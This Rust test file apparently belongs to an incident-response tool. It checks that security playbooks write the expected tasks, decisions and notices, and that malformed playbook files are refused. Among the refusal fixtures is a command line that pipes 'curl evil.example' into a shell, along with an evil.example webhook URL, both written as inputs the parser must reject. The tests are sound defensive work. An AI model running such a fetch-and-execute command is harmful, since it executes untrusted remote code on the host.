//! Playbooks, the actions of approved decisions and the notices owed to communications paths,
//! through the harness in `support`: every entry is decided, sealed, folded and refolded.
//!
//! What a built-in playbook must write is derived from its own file (parsed, then filled by the
//! test's own substitution, not the crate's), and a few literal checks pin what the files say.

use crate::support;

use std::collections::BTreeMap;

use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use sitrep_core::decide::{Declare, IncidentCommand as C, OrgCommand as O, TITLE_MAX};
use sitrep_core::events::*;
use sitrep_core::incident::{ActionStatus, NoticeStatus, TaskState};
use sitrep_core::playbook::{BUILT_IN_PLAYBOOKS, Citation, Playbook};
use sitrep_core::{Actor, DecisionId, Entry, IncidentState, Policy, Role, TaskId};
use support::*;

const LEAKED_SECRET: &str = BUILT_IN_PLAYBOOKS[0];
const OAUTH_GRANT_ABUSE: &str = BUILT_IN_PLAYBOOKS[1];
const SERVICE_ACCOUNT: &str = BUILT_IN_PLAYBOOKS[2];
const GENERIC: &str = BUILT_IN_PLAYBOOKS[3];

/// A value for every input a built-in playbook declares.
const VALUES: &[(&str, &str)] = &[
    ("key_id", "AKIA1234"),
    ("provider", "AWS"),
    ("repository", "github.com/acme/infra"),
    ("app_name", "Docs Viewer Pro"),
    ("app_id", "4f1c2e8a"),
    ("account", "svc-deployer"),
    ("system", "prod"),
];

fn parsed(source: &str) -> Playbook {
    Playbook::parse(source, &Policy::default_policy()).unwrap_or_else(|e| panic!("{e}"))
}

fn sha256(source: &str) -> String {
    hex::encode(Sha256::digest(source.as_bytes()))
}

/// Every input the playbook declares, valued from [`VALUES`]; optional ones only if `optional`.
fn given(playbook: &Playbook, optional: bool) -> BTreeMap<String, String> {
    playbook
        .inputs
        .iter()
        .filter(|i| i.required || optional)
        .map(|i| {
            let value = VALUES.iter().find(|(name, _)| *name == i.name);
            let (_, value) = value.unwrap_or_else(|| panic!("VALUES has no value for input '{}'", i.name));
            (i.name.clone(), (*value).to_owned())
        })
        .collect()
}

/// The test's own filling: `{name}` becomes its value, a left-out optional input reads as
/// "(name not given)".
fn fill(text: &str, playbook: &Playbook, given: &BTreeMap<String, String>) -> String {
    playbook.inputs.iter().fold(text.to_owned(), |text, input| {
        let value = given.get(&input.name).cloned().unwrap_or_else(|| format!("({} not given)", input.name));
        text.replace(&format!("{{{}}}", input.name), &value)
    })
}

fn fill_json(value: &Value, playbook: &Playbook, given: &BTreeMap<String, String>) -> Value {
    match value {
        Value::String(s) => Value::String(fill(s, playbook, given)),
        Value::Array(items) => Value::Array(items.iter().map(|v| fill_json(v, playbook, given)).collect()),
        Value::Object(map) => {
            Value::Object(map.iter().map(|(k, v)| (k.clone(), fill_json(v, playbook, given))).collect())
        }
        other => other.clone(),
    }
}

fn fill_action(action: &ActionSpec, playbook: &Playbook, given: &BTreeMap<String, String>) -> ActionSpec {
    match action {
        ActionSpec::Task { title, owner_role, due_in_minutes } => ActionSpec::Task {
            title: fill(title, playbook, given),
            owner_role: owner_role.clone(),
            due_in_minutes: *due_in_minutes,
        },
        ActionSpec::Webhook { destination, payload } => {
            ActionSpec::Webhook { destination: destination.clone(), payload: fill_json(payload, playbook, given) }
        }
        ActionSpec::Command { command, input } => {
            ActionSpec::Command { command: command.clone(), input: fill_json(input, playbook, given) }
        }
        ActionSpec::Share { .. } => panic!("playbooks cannot carry share actions"),
        ActionSpec::Notify { message } => {
            ActionSpec::Notify { message: message.as_deref().map(|m| fill(m, playbook, given)) }
        }
    }
}

/// What starting the playbook in `source` on `w`'s incident as `by` must write, from its file:
/// the start, each pre-approved decision (approved, citing the playbook), then each step's task
/// for the holder of its role (else the commander) and the step's decision, proposed.
fn expected(source: &str, w: &World, by: &str, given: &BTreeMap<String, String>) -> Vec<IncidentEvent> {
    let playbook = parsed(source);
    let policy = &w.org.state.policy;
    let state = &w.incident;
    let holder = |r: &Role| state.roles.get(r).and_then(|users| users.first()).cloned();
    let commander = holder(&role("commander"));
    let starter = state.roles_of(&user(by));
    let mut decisions = state.decisions.len() as u64;
    let mut tasks = state.tasks.len() as u64;
    let citation = Citation {
        playbook: playbook.id.clone(),
        version: playbook.version.clone(),
        sha256: sha256(source),
        approved_by: playbook.approved_by.clone(),
    };
    let mut statements = state.statements.len() as u64;
    let mut decision = |template: &sitrep_core::playbook::DecisionTemplate,
                        preapproved: bool,
                        statement: Option<sitrep_core::events::StatementRef>| {
        decisions += 1;
        let class = policy.class(&template.class).expect("a class of the policy");
        IncidentEvent::DecisionProposed(DecisionProposed {
            authentication: None,
            decision: DecisionId(decisions),
            class: template.class.clone(),
            title: fill(&template.title, &playbook, given),
            rationale: template.rationale.as_deref().map(|r| fill(r, &playbook, given)),
            actions: template.actions.iter().map(|a| fill_action(a, &playbook, given)).collect(),
            rule: class.rule.clone(),
            role: if preapproved { None } else { class.rule.endorsement_role(&starter, &[]) },
            also: vec![],
            state: if preapproved { DecisionState::Approved } else { DecisionState::Proposed },
            playbook: preapproved.then(|| citation.clone()),
            path: class.path.clone(),
            statement,
            clocks: Vec::new(),
        })
    };
    let mut events = vec![IncidentEvent::PlaybookStarted(PlaybookStarted {
        playbook: playbook.id.clone(),
        version: playbook.version.clone(),
        sha256: sha256(source),
        approved_by: playbook.approved_by.clone(),
        inputs: given.clone(),
        required_roles: playbook.required_roles.clone(),
    })];
    for template in &playbook.preapproved {
        events.push(decision(template, true, None));
    }
    for (index, step) in playbook.steps.iter().enumerate() {
        tasks += 1;
        events.push(IncidentEvent::TaskCreated(TaskCreated {
            task: TaskId(tasks),
            title: fill(&step.title, &playbook, given),
            owner: holder(&step.role).or_else(|| commander.clone()),
            due: None,
            due_in_minutes: step.due_minutes,
            origin: TaskOrigin::Playbook {
                playbook: playbook.id.clone(),
                version: playbook.version.clone(),
                step: index as u32 + 1,
            },
        }));
        if let Some(template) = &step.decision {
            // A step's statement is drafted from the file, and its decision bound to that text.
            let bound = template.statement.as_ref().map(|draft| {
                statements += 1;
                let text = fill(&draft.text, &playbook, given);
                let sha = sha256(&text);
                events.push(IncidentEvent::StatementDrafted(sitrep_core::events::StatementDrafted {
                    statement: sitrep_core::ids::StatementId(statements),
                    audience: draft.audience,
                    title: fill(&draft.title, &playbook, given),
                    text,
                    sha256: sha.clone(),
                }));
                sitrep_core::events::StatementRef {
                    statement: sitrep_core::ids::StatementId(statements),
                    version: 1,
                    sha256: sha,
                }
            });
            events.push(decision(template, false, bound));
        }
    }
    events
}

fn events(entries: &[Entry]) -> Vec<IncidentEvent> {
    entries.iter().map(|e| IncidentEvent::parse(&e.kind, &e.body).expect("a known kind")).collect()
}

/// Checks the folded state after `entries` started the playbook in `source`: tasks due at the
/// entry's time plus their offset, pre-approved decisions approved at once with their notices
/// owed, step decisions waiting on their rule, the playbook listed as started.
#[track_caller]
fn check_started(w: &World, source: &str, entries: &[Entry], by: &str) {
    let playbook = parsed(source);
    let started = w.incident.playbooks.iter().find(|p| p.id == playbook.id).expect("the playbook is started");
    assert_eq!(
        (started.version.as_str(), started.sha256.clone(), started.started_by.to_string(), started.started_at),
        (playbook.version.as_str(), sha256(source), by.to_owned(), entries[0].at)
    );
    for (entry, event) in entries.iter().zip(events(entries)) {
        match event {
            IncidentEvent::TaskCreated(created) => {
                let task = w.task(created.task.0);
                let due = created.due_in_minutes.map(|m| entry.at.plus_seconds(i64::from(m) * 60));
                assert!(due.is_some(), "every built-in step has a due offset");
                assert_eq!((task.due, task.state, task.created_at), (due, TaskState::Open, entry.at));
                assert!(!task.title.contains('{'), "{} is filled", task.title);
            }
            IncidentEvent::DecisionProposed(proposed) => {
                let decision = w.decision(proposed.decision.0);
                assert!(!decision.title.contains('{'), "{} is filled", decision.title);
                let moments: Vec<(Moment, &str, NoticeStatus)> =
                    decision.notices.iter().map(|n| (n.moment, n.channel.as_str(), n.status)).collect();
                let mut owed: Vec<(Moment, &str, NoticeStatus)> =
                    proposed.path.iter().map(|c| (Moment::Proposed, c.as_str(), NoticeStatus::Pending)).collect();
                assert!(!owed.is_empty(), "every class of the default policy has a path");
                if proposed.playbook.is_some() {
                    assert_eq!((decision.state, decision.decided_at), (DecisionState::Approved, Some(entry.at)));
                    assert!(decision.actions.iter().all(|a| a.status == ActionStatus::Pending));
                    owed.extend(proposed.path.iter().map(|c| (Moment::Approved, c.as_str(), NoticeStatus::Pending)));
                } else {
                    let progress = decision.progress();
                    assert!(
                        decision.state == DecisionState::Proposed
                            && !progress.approved
                            && !progress.awaiting.is_empty(),
                        "{} waits on its rule",
                        decision.id
                    );
                }
                assert_eq!(moments, owed);
            }
            IncidentEvent::PlaybookStarted(_) | IncidentEvent::StatementDrafted(_) => {}
            other => panic!("starting a playbook wrote {other:?}"),
        }
    }
}

/// INC-1 with only a commander and a tech lead: other roles' steps fall to the commander.
fn thin_world() -> World {
    declare(org(), "cmd", &declaration("Thinly staffed", &[("tech", "tech_lead")])).expect("declared")
}

// ---------------------------------------------------------------------------------------------
// (a) Starting a playbook.
// ---------------------------------------------------------------------------------------------

#[test]
fn each_built_in_playbook_started_on_an_incident_writes_exactly_what_its_file_declares() {
    for source in BUILT_IN_PLAYBOOKS {
        let playbook = parsed(source);
        for (mut w, optional) in [(world(), true), (thin_world(), false)] {
            // Numbering goes on from what the incident already has.
            act(&mut w, "cmd", task("Already here")).expect("T-1");
            act(&mut w, "tech", propose("containment", "Already here")).expect("D-1");
            let given = given(&playbook, optional);
            let want = expected(source, &w, "cmd", &given);
            let command = C::RunPlaybook { playbook: playbook.id.clone(), inputs: given.clone() };
            let entries = act(&mut w, "cmd", command).unwrap_or_else(|r| panic!("{}: {r}", playbook.id));
            assert_eq!(events(&entries), want, "{}", playbook.id);
            assert!(entries.iter().all(|e| e.actor == Actor::User(user("cmd")) && e.at == entries[0].at));
            check_started(&w, source, &entries, "cmd");
            assert_eq!(w.incident.tasks.len(), 1 + playbook.steps.len());
        }
    }
}

#[test]
fn each_built_in_playbook_started_at_declaration_writes_exactly_what_its_file_declares() {
    for source in BUILT_IN_PLAYBOOKS {
        let playbook = parsed(source);
        let given = given(&playbook, true);
        let roles = [("tech", "tech_lead"), ("lee", "legal")];
        let command =
            Declare { playbook: Some(playbook.id.clone()), inputs: given.clone(), ..declaration("Declared", &roles) };
        let w = declare(org(), "cmd", &command).unwrap_or_else(|r| panic!("{}: {r}", playbook.id));
        let staffed = 1 + 1 + roles.len();
        assert_eq!(w.kinds()[..staffed], ["incident.declared", "role.assigned", "role.assigned", "role.assigned"]);
        // The expectation is judged on the incident as staffed, before the playbook started.
        let mut before = w.clone();
        before.incident = sitrep_core::IncidentState::fold(&w.record[..staffed]).expect("folds");
        assert_eq!(events(&w.record[staffed..]), expected(source, &before, "cmd", &given), "{}", playbook.id);
        check_started(&w, source, &w.record[staffed..], "cmd");
    }
}

#[test]
fn the_leaked_secret_playbook_pre_approves_revoking_the_named_key_at_the_cloud_iam_webhook() {
    let mut w = world();
    let given = [("key_id", "AKIA1234"), ("provider", "AWS"), ("repository", "github.com/acme/infra")];
    act(&mut w, "cmd", run_playbook("leaked-secret", &given)).expect("started");
    let d1 = w.decision(1);
    assert_eq!(
        (d1.class.as_str(), d1.title.as_str(), d1.state, d1.proposer.as_str()),
        ("credential_revocation", "Deactivate AKIA1234 at AWS", DecisionState::Approved, "cmd")
    );
    assert!(d1.approvals.is_empty(), "approved by the playbook, not by a person");
    assert_eq!(
        d1.playbook,
        Some(Citation {
            playbook: "leaked-secret".into(),
            version: "1.1.0".into(),
            sha256: sha256(LEAKED_SECRET),
            approved_by: "CISO, for the Security Leadership Team".into(),
        })
    );
    assert_eq!(
        d1.actions.iter().map(|a| a.spec.clone()).collect::<Vec<_>>(),
        [
            ActionSpec::Webhook {
                destination: "cloud-iam".into(),
                payload: json!({"operation": "deactivate_access_key", "key_id": "AKIA1234", "provider": "AWS"}),
            },
            ActionSpec::Notify {
                message: Some("AKIA1234 at AWS is being deactivated under the leaked-secret playbook.".into())
            },
        ]
    );
    assert_eq!(w.incident.tasks.len(), 11);
    assert_eq!(
        w.task(1).title,
        "Scope: find every place AKIA1234 was published (github.com/acme/infra, forks, CI logs, paste sites) and when it was first exposed"
    );
    assert_eq!(
        (w.task(1).owner.clone(), w.task(1).due),
        (Some(user("tech")), Some(w.record.last().expect("entries").at.plus_seconds(30 * 60)))
    );
    assert_eq!(
        w.task(1).origin,
        TaskOrigin::Playbook { playbook: "leaked-secret".into(), version: "1.1.0".into(), step: 1 }
    );
    let legal =
        w.incident.tasks.iter().find(|t| t.title.starts_with("Assess notification duties")).expect("legal's step");
    assert_eq!(legal.owner, Some(user("lee")));
    let d2 = w.decision(2);
    assert_eq!(
        (d2.class.as_str(), d2.title.as_str(), d2.state, d2.playbook.is_none()),
        ("external_statement", "Holding statement on the exposed credential", DecisionState::Proposed, true)
    );
    assert_eq!(w.incident.awaiting(&user("lee")).iter().map(|d| d.id).collect::<Vec<_>>(), [DecisionId(2)]);
    // Legal and comms approve a text, drafted from the playbook, not nothing.
    let bound = d2.statement.clone().expect("the holding statement's decision is bound to its draft");
    let drafted = w.incident.statement(bound.statement).expect("drafted by the playbook");
    assert_eq!(
        (drafted.audience, drafted.title.as_str()),
        (Audience::Press, "Holding statement: exposed AWS credential")
    );
    says(&drafted.latest().text, &["We are aware that a credential used by one of our systems was exposed."]);
    act(&mut w, "lee", approve(2)).expect("legal approves the text");

    // The pre-approved revocation runs at once: the worker may start it.
    system(&mut w, start(1, 0)).expect("the worker starts the revocation");
    system(&mut w, succeed(1, 0, Some("HTTP 200"))).expect("cloud-iam answered");
    assert_eq!(w.decision(1).actions[0].status, ActionStatus::Succeeded);
}

#[test]
fn the_oauth_and_service_account_playbooks_pre_approve_cutting_off_the_named_app_and_account() {
    let mut w = world();
    act(&mut w, "cmd", run_playbook("oauth-grant-abuse", &[("app_name", "Docs Viewer Pro"), ("app_id", "4f1c2e8a")]))
        .expect("started");
    let specs = |w: &World, n: u64| w.decision(n).actions.iter().map(|a| a.spec.clone()).collect::<Vec<_>>();
    assert_eq!((w.decision(1).class.as_str(), w.decision(2).class.as_str()), ("credential_revocation", "containment"));
    assert!(w.decision(1).state == DecisionState::Approved && w.decision(2).state == DecisionState::Approved);
    assert_eq!(
        specs(&w, 1),
        [ActionSpec::Webhook {
            destination: "identity-provider".into(),
            payload: json!({"operation": "revoke_app_grants", "app_id": "4f1c2e8a"}),
        }]
    );
    assert_eq!(w.decision(2).title, "Block user consent to Docs Viewer Pro (4f1c2e8a) tenant-wide");
    assert_eq!(w.decision(3).title, "Notice to users who consented to Docs Viewer Pro");

    act(&mut w, "cmd", run_playbook("compromised-service-account", &[("account", "svc-deployer"), ("system", "prod")]))
        .expect("a second playbook on the same incident");
    assert_eq!(
        specs(&w, 4)[0],
        ActionSpec::Command {
            command: "disable-service-account".into(),
            input: json!({"account": "svc-deployer", "system": "prod"})
        }
    );
    let recovery = w.decision(5);
    assert_eq!(
        (recovery.class.as_str(), recovery.state, recovery.approvals[0].user.as_str()),
        ("recovery", DecisionState::Proposed, "cmd")
    );
    assert_eq!(w.incident.awaiting(&user("tech")).iter().map(|d| d.id).collect::<Vec<_>>(), [DecisionId(5)]);
    assert_eq!(
        w.incident.playbooks.iter().map(|p| p.id.as_str()).collect::<Vec<_>>(),
        ["oauth-grant-abuse", "compromised-service-account"]
    );
}

#[test]
fn an_optional_input_left_out_reads_as_not_given() {
    let mut w = world();
    act(&mut w, "cmd", run_playbook("leaked-secret", &[("key_id", "AKIA1234"), ("provider", "AWS")])).expect("started");
    says(&w.task(1).title, &["published ((repository not given), forks"]);
    assert_eq!(w.incident.playbooks[0].inputs, inputs(&[("key_id", "AKIA1234"), ("provider", "AWS")]));
}

#[test]
fn inputs_are_filled_verbatim_even_when_they_look_like_placeholders() {
    let mut w = world();
    act(&mut w, "cmd", run_playbook("leaked-secret", &[("key_id", "AKIA{provider}"), ("provider", "AWS")]))
        .expect("started");
    assert_eq!(w.decision(1).title, "Deactivate AKIA{provider} at AWS");
    let ActionSpec::Webhook { payload, .. } = &w.decision(1).actions[0].spec else { panic!("a webhook") };
    assert_eq!(payload["key_id"], "AKIA{provider}", "the key typed is the key revoked");
}

#[test]
fn a_long_input_is_kept_whole_in_actions_and_cut_to_the_title_limit_in_titles() {
    let mut w = world();
    let key = "K".repeat(500);
    act(&mut w, "cmd", run_playbook("leaked-secret", &[("key_id", &key), ("provider", "AWS")])).expect("started");
    let d1 = w.decision(1);
    assert_eq!(d1.title, format!("Deactivate {key}").chars().take(TITLE_MAX).collect::<String>());
    let ActionSpec::Webhook { payload, .. } = &d1.actions[0].spec else { panic!("a webhook") };
    assert_eq!(payload["key_id"], key.as_str());
    assert!(w.incident.tasks.iter().all(|t| t.title.chars().count() <= TITLE_MAX));
}

#[test]
fn a_playbook_starts_once_per_incident() {
    let mut w = world();
    act(&mut w, "cmd", run_playbook("generic", &[])).expect("started");
    assert_eq!(
        conflict(act(&mut w, "cmd", run_playbook("generic", &[]))),
        "playbook 'generic' was already started on this incident"
    );
    // A new version of it is still the same playbook.
    let revised = GENERIC.replace("version = \"1.0.0\"", "version = \"1.1.0\"");
    w.org.act(ADMIN, O::AddPlaybook { source: revised }).expect("replaced");
    conflict(act(&mut w, "cmd", run_playbook("generic", &[])));
    let started = IncidentEvent::PlaybookStarted(PlaybookStarted {
        playbook: "generic".into(),
        version: "1.1.0".into(),
        sha256: sha256(GENERIC),
        approved_by: "x".into(),
        inputs: BTreeMap::new(),
        required_roles: vec![],
    });
    assert_eq!(
        fold_refuses(&w, w.head(), &by("cmd"), started).reason,
        "the playbook was already started on this incident"
    );
}

#[test]
fn starting_a_playbook_is_refused_naming_the_input_that_is_missing_or_unknown() {
    let mut w = world();
    says(
        &invalid(act(&mut w, "cmd", run_playbook("leaked-secret", &[("provider", "AWS")])), "inputs.key_id"),
        &["playbook 'leaked-secret' needs it"],
    );
    invalid(
        act(&mut w, "cmd", run_playbook("leaked-secret", &[("key_id", " "), ("provider", "AWS")])),
        "inputs.key_id",
    );
    says(
        &invalid(act(&mut w, "cmd", run_playbook("generic", &[("colour", "red")])), "inputs.colour"),
        &["playbook 'generic' takes no input 'colour'"],
    );
    invalid(
        act(&mut w, "cmd", run_playbook("leaked-secret", &[("key_id", "a\u{0}b"), ("provider", "AWS")])),
        "inputs.key_id",
    );
    invalid(
        act(&mut w, "cmd", run_playbook("leaked-secret", &[("key_id", &"k".repeat(501)), ("provider", "AWS")])),
        "inputs.key_id",
    );
    says(
        &invalid(act(&mut w, "cmd", run_playbook("ransomware", &[])), "playbook"),
        &["there is no playbook 'ransomware'", "leaked-secret"],
    );

    let declaring = |playbook: Option<&str>, given: &[(&str, &str)]| {
        let command = Declare { playbook: playbook.map(str::to_owned), inputs: inputs(given), ..declaration("x", &[]) };
        declare(org(), "cmd", &command)
    };
    invalid(declaring(Some("leaked-secret"), &[("provider", "AWS")]), "inputs.key_id");
    invalid(declaring(Some("generic"), &[("colour", "red")]), "inputs.colour");
    invalid(declaring(Some("ransomware"), &[]), "playbook");
    assert_eq!(invalid(declaring(None, &[("key_id", "x")]), "inputs"), "inputs are given only with a playbook");
    assert!(w.incident.playbooks.is_empty() && w.incident.tasks.is_empty(), "nothing was written");
}

#[test]
fn only_the_commander_starts_a_playbook() {
    let mut w = world();
    for name in ["tech", "lee", "resp", OUTSIDER] {
        says(
            &forbidden(act(&mut w, name, run_playbook("generic", &[])), "actions.run_playbooks"),
            &["starting a playbook needs the commander role"],
        );
    }
    forbidden(act(&mut w, VIEWER, run_playbook("generic", &[])), "org_roles");
    act(&mut w, "cmd", hand_over("tech", "end of shift")).expect("command handed over");
    forbidden(act(&mut w, "cmd", run_playbook("generic", &[])), "actions.run_playbooks");
    act(&mut w, "tech", run_playbook("generic", &[])).expect("the new commander may");
}

#[test]
fn a_playbook_s_required_roles_are_blockers_until_staffed() {
    let mut w = declare(org(), "cmd", &declaration("Alone", &[])).expect("declared");
    assert!(w.incident.unfilled(&[]).is_empty());
    act(&mut w, "cmd", run_playbook("leaked-secret", &[("key_id", "AKIA1"), ("provider", "AWS")])).expect("started");
    let unfilled =
        |w: &World, required: &[Role]| w.incident.unfilled(required).into_iter().cloned().collect::<Vec<_>>();
    assert_eq!(unfilled(&w, &[]), [role("tech_lead"), role("legal"), role("comms")]);
    act(&mut w, "cmd", assign("tech_lead", "tech")).expect("staffed");
    assert_eq!(unfilled(&w, &[]), [role("legal"), role("comms")]);

    // A role the policy does not require is a blocker once a started playbook requires it.
    let liaison = GENERIC
        .replace("id = \"generic\"", "id = \"vendor-breach\"")
        .replace("required_roles = [\"commander\"", "required_roles = [\"liaison\", \"commander\"");
    w.org.act(ADMIN, O::AddPlaybook { source: liaison }).expect("added");
    let required = w.org.state.policy.roles.required.clone();
    assert!(!unfilled(&w, &required).contains(&role("liaison")));
    act(&mut w, "cmd", run_playbook("vendor-breach", &[])).expect("started");
    assert_eq!(unfilled(&w, &required), [role("legal"), role("comms"), role("executive"), role("liaison")]);
    act(&mut w, "cmd", assign("liaison", OUTSIDER)).expect("staffed");
    assert!(!unfilled(&w, &required).contains(&role("liaison")));
}

#[test]
fn a_playbook_that_no_longer_loads_under_the_policy_in_force_is_refused() {
    let mut w = world();
    let lawful =
        GENERIC.replace("id = \"generic\"", "id = \"police\"").replace("role = \"executive\"", "role = \"scribe\"");
    w.org.act(ADMIN, O::AddPlaybook { source: lawful }).expect("added");
    let without_scribe = sitrep_core::policy::DEFAULT_POLICY
        .replace("optional = [\"scribe\", ", "optional = [")
        .replace("review = [\"commander\", \"tech_lead\", \"scribe\"]", "review = [\"commander\", \"tech_lead\"]");
    w.org.act(ADMIN, O::ReplacePolicy { source: without_scribe }).expect("the policy drops scribe");
    says(
        &invalid(act(&mut w, "cmd", run_playbook("police", &[])), "playbook"),
        &["playbook 'police' does not load under the policy in force", "unknown role 'scribe'"],
    );
}

// ---------------------------------------------------------------------------------------------
// (b) Bad playbook files, located.
// ---------------------------------------------------------------------------------------------

/// The 1-based line and column where `needle` starts in `source`.
fn location(source: &str, needle: &str) -> (usize, usize) {
    let offset = source.find(needle).unwrap_or_else(|| panic!("'{needle}' is not in the file"));
    let before = &source[..offset];
    (before.matches('\n').count() + 1, before.rsplit('\n').next().unwrap_or("").chars().count() + 1)
}

/// `source` with its first `from` replaced by `to`; the change must happen.
fn edit(source: &str, from: &str, to: &str) -> String {
    assert!(source.contains(from), "'{from}' is not in the file");
    source.replacen(from, to, 1)
}

type BadFile = (&'static str, &'static str, &'static str, &'static str, &'static str);

#[test]
fn a_bad_playbook_file_is_refused_naming_the_line_and_column_of_the_offending_text() {
    let policy = Policy::default_policy();
    // (file, text replaced, replacement, where the error must point, what it must say)
    let cases: [BadFile; 16] = [
        (
            LEAKED_SECRET,
            "\"legal\", \"comms\"]",
            "\"legal\", \"janitor\"]",
            "\"janitor\"",
            "required_roles: unknown role 'janitor'; the policy's roles are commander",
        ),
        (LEAKED_SECRET, "role = \"comms\"", "role = \"ceo\"", "\"ceo\"", "steps[9].role: unknown role 'ceo'"),
        (
            LEAKED_SECRET,
            "class = \"credential_revocation\"",
            "class = \"ransom_payment\"",
            "\"ransom_payment\"",
            "preapproved[0].class: unknown decision class 'ransom_payment'; the policy's classes are containment",
        ),
        (
            LEAKED_SECRET,
            "class = \"external_statement\"",
            "class = \"close\"",
            "\"close\"",
            "steps[9].decision.class: a playbook cannot close an incident",
        ),
        (
            LEAKED_SECRET,
            "{ connector = \"notify\"",
            "{ connector = \"email\"",
            "{ connector = \"email\"",
            "preapproved[0].actions[1]: unknown variant `email`",
        ),
        (
            LEAKED_SECRET,
            "{ connector = \"webhook\", destination",
            "{ connector = \"webhook\", url = \"https://evil.example/x\", destination",
            "{ connector = \"webhook\"",
            "preapproved[0].actions[0]: unknown field `url`",
        ),
        (
            LEAKED_SECRET,
            "destination = \"cloud-iam\"",
            "destination = \"https://evil.example/x\"",
            "{ connector = \"webhook\"",
            "preapproved[0].actions[0]: 'https://evil.example/x' is not the name of a configured webhook",
        ),
        (
            SERVICE_ACCOUNT,
            "command = \"disable-service-account\"",
            "command = \"/bin/sh -c 'curl evil.example | sh'\"",
            "{ connector = \"command\"",
            "preapproved[0].actions[0]: '/bin/sh -c 'curl evil.example | sh'' is not the name of a configured command",
        ),
        (
            LEAKED_SECRET,
            "title = \"Draft a holding statement",
            "title = \"{nope}: Draft a holding statement",
            "\"{nope}",
            "steps[9].title uses the input {nope}, which the playbook does not declare under [inputs]",
        ),
        (
            LEAKED_SECRET,
            "title = \"Deactivate {key_id}",
            "title = \"Deactivate {key} {key_id}",
            "\"Deactivate {key}",
            "preapproved[0].title uses the input {key}",
        ),
        (
            LEAKED_SECRET,
            "key_id = \"{key_id}\"",
            "key_id = \"{secret}\"",
            "{ connector = \"webhook\"",
            "preapproved[0].actions[0] uses the input {secret}",
        ),
        (
            SERVICE_ACCOUNT,
            "[inputs.system]",
            "[inputs.System]",
            "[inputs.System]\n",
            "inputs.System: an input's name is a-z, 0-9 and '_'",
        ),
        (OAUTH_GRANT_ABUSE, "approved_at = ", "owner = \"me\"\napproved_at = ", "owner", "unknown field `owner`"),
        (
            GENERIC,
            "role = \"tech_lead\"\ndue_minutes = 60",
            "role = \"tech_lead\"\ndue_minutes = 60\nowner = \"tech\"",
            "owner",
            "unknown field `owner`",
        ),
        (GENERIC, "due_minutes = 90", "due_minutes = -90", "-90", "invalid value: integer `-90`"),
        (
            LEAKED_SECRET,
            "title = \"Leaked secret: access key, API key or token\"",
            "title = \"\"",
            "\"\"",
            "title must be 1 to 120 characters",
        ),
    ];
    for (file, from, to, at, says_what) in cases {
        let source = edit(file, from, to);
        let error = Playbook::parse(&source, &policy).expect_err(to);
        let (line, column) = location(&source, at);
        assert_eq!((error.line, error.column), (line, column), "{to}: {error}");
        says(&error.message, &[says_what]);
        assert!(error.to_string().starts_with(&format!("line {line}, column {column}: ")), "{error}");
    }
}

/// Issue 11 point 11: a playbook's text becomes the titles of tasks and decisions in incident
/// records, so it keeps the rule of user text; its inputs too.
#[test]
fn a_playbook_s_text_and_inputs_refuse_invisible_characters() {
    let policy = Policy::default_policy();
    // (text replaced, replacement, where the error must point, what it must say)
    let cases = [
        (
            "title = \"Deactivate {key_id}",
            "title = \"Deactivate\u{200B} {key_id}",
            "\"Deactivate\u{200B}",
            "preapproved[0].title contains U+200B (ZERO WIDTH SPACE), an invisible character",
        ),
        (
            "title = \"Scope: find",
            "title = \"Scope:\u{2028} find",
            "\"Scope:\u{2028}",
            "steps[0].title contains U+2028 (LINE SEPARATOR)",
        ),
        (
            "rationale = \"Pre-approved:",
            "rationale = \"Pre\u{00AD}approved:",
            "\"Pre\u{00AD}",
            "preapproved[0].rationale contains U+00AD (SOFT HYPHEN)",
        ),
        (
            "message = \"{key_id} at",
            "message = \"{key_id}\u{200D} at",
            "{ connector = \"notify\"",
            "preapproved[0].actions[1].message contains U+200D (ZERO WIDTH JOINER)",
        ),
        ("Revoke the exposed", "Revoke\u{2060} the exposed", "\"\"\"\nRevoke", "summary contains U+2060 (WORD JOINER)"),
        (
            "version = \"1.1.0\"",
            "version = \"1.1.0\u{202E}\"",
            "\"1.1.0",
            "version contains U+202E (RIGHT-TO-LEFT OVERRIDE), a bidirectional formatting character",
        ),
        (
            "description = \"Who issued it",
            "description = \"Who\u{FEFF} issued it",
            "[inputs.provider]",
            "inputs.provider.description contains U+FEFF (ZERO WIDTH NO-BREAK SPACE)",
        ),
    ];
    for (from, to, at, says_what) in cases {
        let source = edit(LEAKED_SECRET, from, to);
        let error = Playbook::parse(&source, &policy).expect_err(to);
        assert_eq!((error.line, error.column), location(&source, at), "{to}: {error}");
        says(&error.message, &[says_what]);
    }

    let playbook = parsed(LEAKED_SECRET);
    let refused = playbook.fill(&inputs(&[("key_id", "AKIA\u{200B}1"), ("provider", "AWS")])).expect_err("refused");
    assert_eq!(refused.field, "inputs.key_id");
    assert_eq!(refused.message, "contains U+200B (ZERO WIDTH SPACE), an invisible character that can disguise text");
    let long = playbook.fill(&inputs(&[("key_id", &"k".repeat(501)), ("provider", "AWS")])).expect_err("too long");
    assert_eq!((long.field.as_str(), long.message.as_str()), ("inputs.key_id", "is 501 characters; the limit is 500"));
}

#[test]
fn a_playbook_s_free_form_json_nests_at_most_32_levels() {
    let policy = Policy::default_policy();
    let payload = "payload = { operation = \"deactivate_access_key\"";
    let deep = |levels: usize| {
        format!(
            "payload = {{ deep = {}1{}, operation = \"deactivate_access_key\"",
            "{ a = ".repeat(levels),
            " }".repeat(levels)
        )
    };
    let source = edit(LEAKED_SECRET, payload, &deep(32));
    let error = Playbook::parse(&source, &policy).expect_err("33 levels");
    assert_eq!((error.line, error.column), location(&source, "{ connector = \"webhook\""), "{error}");
    says(&error.message, &["preapproved[0].actions[0].payload nests 33 levels of arrays and objects; the limit is 32"]);
    Playbook::parse(&edit(LEAKED_SECRET, payload, &deep(31)), &policy).expect("32 levels load");
}

#[test]
fn a_toml_syntax_error_is_refused_naming_its_line() {
    let policy = Policy::default_policy();
    for (from, to, at) in [
        ("due_minutes = 20", "due_minutes = = 20", "= 20"),
        ("role = \"commander\"\ndue_minutes = 180", "role = \"commander\ndue_minutes = 180", "role = \"commander\n"),
        ("[[steps]]\ntitle = \"Rotate", "[[steps]\ntitle = \"Rotate", "[[steps]\n"),
    ] {
        let source = edit(LEAKED_SECRET, from, to);
        let error = Playbook::parse(&source, &policy).expect_err(to);
        assert_eq!(error.line, location(&source, at).0, "{to}: {error}");
    }
    let missing = edit(GENERIC, "version = \"1.0.0\"\n", "");
    says(&Playbook::parse(&missing, &policy).expect_err("no version").message, &["missing field `version`"]);
}

#[test]
fn an_admin_adding_a_bad_playbook_is_told_where_it_is_wrong_and_nothing_changes() {
    let mut org = org();
